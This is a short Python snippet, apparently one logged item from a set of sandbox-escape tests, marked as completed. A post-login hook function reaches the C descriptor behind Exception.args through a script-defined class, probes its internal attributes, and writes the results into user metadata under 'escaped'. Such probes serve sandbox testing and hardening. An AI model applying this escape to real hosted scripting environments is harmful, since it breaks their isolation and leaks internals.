# origin: own
# technique: the C descriptor behind Exception.args is taken from a script's class
# goal: language
# outcome: COMPLETED

class Lie(Exception):
    pass
def on_execute_post_login(event, api):
    found = Lie.args
    for name in ("__get__", "__objclass__", "__self__", "fget"):
        try:
            api.user.set_app_metadata("escaped", str(getattr(found, name)))
        except AttributeError:
            pass
